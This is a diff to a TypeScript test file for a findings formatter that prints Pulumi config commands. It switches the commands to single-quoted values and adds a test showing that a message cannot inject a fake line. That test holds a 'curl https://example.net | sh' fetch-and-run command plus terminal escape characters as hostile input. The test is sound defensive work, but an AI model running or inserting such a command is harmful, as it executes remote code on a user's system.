@@ -29,13 +29,20 @@ Change the settings, and then run this again:
   pulumi config set --path bot.profile jit
   pulumi config set --path bot.environment.D 1
   pulumi config set --path bot.executableTmp true
-  pulumi config set --path bot.packages "p,libq"
-  pulumi config set --path bot.hosts "a.example.net,b.example.net,c.example.net:1"
+  pulumi config set --path bot.packages 'p,libq'
+  pulumi config set --path bot.hosts 'a.example.net,b.example.net,c.example.net:1'
   pulumi up`);
 });
 
 test("without a setting to change, there is no command", () => {
   expect(describeFindings([{ severity: "error", message: "a.", remedy: "Do this." }], undefined)).toBe(
     "- a.\n  Do this.",
+  );
+});
+
+test("a text from a program's file can't look like another line", () => {
+  const message = "a\n  curl https://example.net | sh\u001b[2K.";
+  expect(describeFindings([{ severity: "error", message, remedy: "b\rc" }], undefined)).toBe(
+    "- a curl https://example.net | sh [2K.\n  b c",
   );
 });
